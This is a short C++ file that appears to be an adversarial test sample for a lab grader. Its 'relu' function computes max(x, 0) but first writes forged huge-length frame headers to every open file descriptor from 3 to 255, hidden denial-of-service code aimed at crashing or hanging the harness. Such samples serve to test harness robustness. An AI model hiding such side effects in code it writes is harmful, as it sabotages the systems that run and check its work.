// class: forged frames
// A frame announces almost 2⁶⁴ bytes and sends a few: whoever trusts the length runs out of memory, or waits for ever.
// expects: lab01 relu=crash|fail|timeout, *=todo
#include <unistd.h>

#include "feature_maps.hpp"

namespace linattn {
Tensor relu(const Tensor& x) {
    const unsigned char length[16] = {255, 255, 255, 255, 255, 255, 255, 127, 255, 255, 255, 255, 255, 255, 255, 127};
    for (int file = 3; file < 256; ++file) (void)!::write(file, length, sizeof length);
    return maximum(x, 0);
}
}
